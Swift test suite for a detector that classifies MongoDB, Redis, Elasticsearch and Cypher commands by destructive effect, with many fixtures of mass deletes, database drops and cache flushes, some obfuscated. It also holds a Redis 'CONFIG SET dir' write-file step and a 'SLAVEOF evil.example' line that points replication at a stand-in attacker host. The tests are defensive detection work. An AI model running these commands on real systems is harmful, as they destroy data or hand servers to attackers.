import Operations
import Testing

@Suite struct NoSQLReaderTests {
    static func summary(_ reading: Reading) -> String {
        let operations = reading.operations.map { $0.name.replacing("nosql.", with: "") + ($0.object.isEmpty ? "" : " " + $0.object) }
        return (operations + reading.obscurities.map { "~" + $0.reason.rawValue }).joined(separator: "; ")
    }

    static let commands: [SQLCase] = [
        // MongoDB's shell and drivers.
        .init("db.users.drop()", "drop-collection users"),
        .init("db.dropDatabase()", "drop-database"),
        .init("use shop\ndb.dropDatabase()", "drop-database"),
        .init("db.getSiblingDB('a').dropDatabase()", "drop-database a"),
        .init("db['users'].drop()", "drop-collection users"),
        .init("db.getCollection(\"users\").drop()", "drop-collection users"),
        .init("db['users']['drop']()", "drop-collection users"),
        .init("db . users . drop ( )", "drop-collection users"),
        .init("db.users/* x */.drop()", "drop-collection users"),
        .init("db.users.deleteMany({})", "delete-all users"),
        .init("db.users.deleteMany({ /* all */ })", "delete-all users"),
        .init("db.users.deleteMany({_id: {$exists: true}})", "delete-all users"),
        .init("db.users.deleteMany({$or: [{a: 1}, {}]})", "delete-all users"),
        .init("db.users.deleteMany({name: {$regex: '.*'}})", "delete-all users"),
        .init("db.users.deleteMany({age: {$lt: 5}})", "delete-many users"),
        .init("db.users.deleteOne({_id: ObjectId('1')})", "delete users"),
        .init("db.users.remove({})", "delete-all users"),
        .init("db.users.remove({a: 1}, true)", "delete users"),
        .init("await db.collection('users').deleteMany({});", "delete-all users"),
        .init("db.users.updateMany({}, {$set: {a: 1}})", "update-all users"),
        .init("db.users.updateMany({a: 2}, {$set: {a: 1}})", ""),
        .init("db.users.update({}, {$set: {a: 1}}, {multi: true})", "update-all users"),
        .init("db.users.bulkWrite([{deleteMany: {filter: {}}}])", "delete-all users"),
        .init("db.users.find({$where: 'sleep(1)'})", "run-code users"),
        .init("db.users.aggregate([{$match: {}}, {$out: 'other'}])", "overwrite other"),
        .init("db.users.mapReduce(f, g, {out: 'x'})", "run-code users"),
        .init("db.users.renameCollection('x', true)", "drop-collection users"),
        .init("db.runCommand({dropDatabase: 1})", "drop-database"),
        .init("db.runCommand({delete: 'users', deletes: [{q: {}, limit: 0}]})", "delete-all users"),
        .init("db.adminCommand({shutdown: 1})", "shutdown"),
        .init("db.dropUser('a')", "drop-user a"),
        .init("db[name + 'x']()", "~computed"),
        .init("db.users.find({}).limit(5)", ""),
        .init("db.users.insertOne({text: 'db.users.drop()'})", ""),
        .init("// db.users.drop()\ndb.users.find()", ""),
        .init("{\"delete\": \"users\", \"deletes\": [{\"q\": {}, \"limit\": 0}]}", "delete-all users"),
        .init("{\"delete\": \"users\", \"deletes\": [{\"q\": {\"a\": 1}, \"limit\": 1}]}", "delete users"),
        .init("{\"dropDatabase\": 1}", "drop-database"),
        .init("{\"drop\": \"users\"}", "drop-collection users"),
        .init("{\"drop\": \"users\", \"title\": \"x\", \"note\": \"y\"}", ""),
        .init("{\"delete\": true, \"id\": 5}", ""),
        // Redis.
        .init("FLUSHALL", "flush"),
        .init("flushdb async", "flush"),
        .init("\"FLUSHALL\"", "flush"),
        .init("SET a b\nFLUSHALL", "flush"),
        .init("*1\r\n$8\r\nFLUSHALL\r\n", "flush"),
        .init("*3\r\n$6\r\nCONFIG\r\n$3\r\nSET\r\n$3\r\ndir\r\n", "write-file dir"),
        .init("CONFIG SET dir /var/www", "write-file dir"),
        .init("CONFIG SET maxmemory 1", "configure-server maxmemory"),
        .init("CONFIG GET dir", ""),
        .init("DEBUG SEGFAULT", "shutdown"),
        .init("SCRIPT FLUSH", "delete flush"),
        .init("KEYS *", "scan-all"),
        .init("EVAL \"redis.call('FLUSHALL')\" 0", "run-code; flush"),
        .init("SLAVEOF evil.example 6379", "configure-server evil.example"),
        .init("SHUTDOWN NOSAVE", "shutdown"),
        .init("GET flushall", ""),
        // Elasticsearch's console.
        .init("DELETE /logs-2024", "drop-collection logs-2024"),
        .init("DELETE /_all", "drop-database _all"),
        .init("DELETE /*", "drop-database *"),
        .init("DELETE /a/_doc/1", "delete a/_doc/1"),
        .init("POST /logs/_delete_by_query\n{\"query\": {\"match_all\": {}}}", "delete-all logs"),
        .init("POST /logs/_delete_by_query\n{\"query\": {\"term\": {\"a\": 1}}}", "delete-many logs"),
        .init("GET /logs/_search", ""),
        // Cypher.
        .init("MATCH (n) DETACH DELETE n", "delete-all"),
        .init("MATCH (n:Person) DETACH DELETE n", "delete-all Person"),
        .init("MATCH (n:Person) WHERE n.age > 5 DELETE n", "delete-many Person"),
        .init("MATCH (n:Person {id: 5}) DELETE n", "delete-many Person"),
        .init("MATCH (n) WHERE true DETACH DELETE n", "delete-all"),
        .init("MATCH (n) WHERE 1 = 1 DETACH DELETE n", "delete-all"),
        .init("MATCH/**/(n) detach // x\n delete n", "delete-all"),
        .init("MATCH (n) RETURN n // DETACH DELETE n", ""),
        // None of these.
        .init("Please delete the table and flush the cache.", ""),
        .init("SELECT 1", ""),
        .init("git commit -m 'drop()'", ""),
    ]

    @Test("Commands and what they do", arguments: NoSQLReaderTests.commands)
    func reads(_ item: SQLCase) { #expect(Self.summary(NoSQLReader.read(item.text)) == item.expected) }

    @Test("A language that is known is read without signs of it")
    func languages() {
        func names(_ text: String, _ language: NoSQLReader.Language) -> [String] { NoSQLReader.read(text, language: language).operations.map(\.name) }
        #expect(names("DEL a", .redis) == ["nosql.delete"])
        #expect(names("SHUTDOWN", .redis) == ["nosql.shutdown"])
        #expect(names("DROP KEYSPACE k", .cassandra) == ["sql.drop-database"])
        #expect(names("TRUNCATE users", .cassandra) == ["sql.truncate-table"])
        #expect(names("DELETE FROM users WHERE id = 5", .cassandra) == ["sql.delete"])
    }

    @Test("Any text is read to an end")
    func anyText() {
        var random = SQLPropertyTests.Random(state: UInt64.random(in: 0 ... .max))
        let seed = random.state
        let pieces = ["db", ".", "users", "(", ")", "{", "}", "[", "]", "'", "\"", "deleteMany", "drop", ":", ",", "/*", "*/", "//", "\n", "$where", "FLUSHALL", "*3\r\n", "$5\r\n", "MATCH (", "DELETE", "\\", "POST /a/_delete_by_query\n", "new ", "1e", "/x/", "EVAL", "redis.call('"]
        for _ in 0..<6000 {
            let text = (0..<Int.random(in: 0..<30, using: &random)).map { _ in pieces.randomElement(using: &random)! }.joined(separator: Bool.random(using: &random) ? "" : " ")
            let reading = NoSQLReader.read(text)
            #expect(reading.operations.allSatisfy { $0.range.upperBound <= text.utf8.count }, "seed \(seed): \(text)")
        }
    }
}
